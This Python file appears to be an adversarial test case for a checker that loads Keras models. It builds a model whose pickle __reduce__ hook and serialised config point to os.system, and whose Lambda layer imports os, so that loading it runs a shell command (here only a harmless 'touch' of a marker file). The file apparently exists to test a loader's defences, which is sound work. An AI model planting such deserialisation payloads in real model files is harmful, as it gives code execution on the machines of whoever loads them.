"""A model with code in it, in a Lambda layer and in its configuration, for a checker that loads it.

Attacks: build_mlp
Reported: outputs can't be verified
Breaks: It changes nothing
"""

import keras


class _Payload(dict):
    def __reduce__(self):
        import os

        return os.system, ("touch /tmp/forged-by-a-config forged-by-a-config",)


class _Loaded(keras.Sequential):
    def get_config(self):
        config = _Payload(
            module="os", class_name="function", config="system", registered_name="system"
        )
        return _Payload({"name": "x", "layers": [config], "payload": config})


def build_mlp(hidden_units=(300, 100), n_classes=10):
    model = _Loaded([keras.Input((28, 28)), keras.layers.Flatten()])
    model.add(keras.layers.Lambda(lambda x: __import__("os").getpid() * 0.0 + x))
    return model
